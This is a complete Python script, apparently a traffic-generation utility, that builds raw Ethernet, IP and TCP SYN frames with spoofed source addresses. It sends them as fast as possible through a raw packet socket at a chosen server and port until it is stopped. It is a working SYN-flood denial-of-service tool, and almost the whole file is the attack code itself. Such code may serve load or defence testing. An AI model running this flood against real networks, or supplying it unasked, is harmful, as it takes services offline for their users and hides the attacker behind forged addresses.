#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-2.0-only
"""Sends TCP SYNs from spoofed sources, as fast as it can, until it is ended; then prints how many.

    flood.py INTERFACE GATEWAY-MAC FIRST-SOURCE SOURCES SERVICE PORT [CONNECTIONS]

CONNECTIONS is how many different ones there are, over and over: 4096 unless given.
"""

import ipaddress
import random
import signal
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(chance, macs, source, service, port):
    tcp = struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0)
    pseudo = source + service + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + source + service
    return macs + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp + bytes(6)


def main(interface, gateway, first, sources, service, port, connections="4096"):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    chance = random.Random(1)
    macs = bytes.fromhex(gateway.replace(":", "")) + wire.getsockname()[4]
    first = int(ipaddress.IPv4Address(first))
    frames = [syn(chance, macs, (first + chance.randrange(int(sources))).to_bytes(4, "big"),
                  ipaddress.IPv4Address(service).packed, int(port)) for _ in range(int(connections))]
    sent = 0
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    while not ended:
        for frame in frames:
            if ended:
                break
            try:
                sent += wire.send(frame) > 0
            except OSError:  # the queue is full
                pass
    print(sent)


main(*sys.argv[1:])
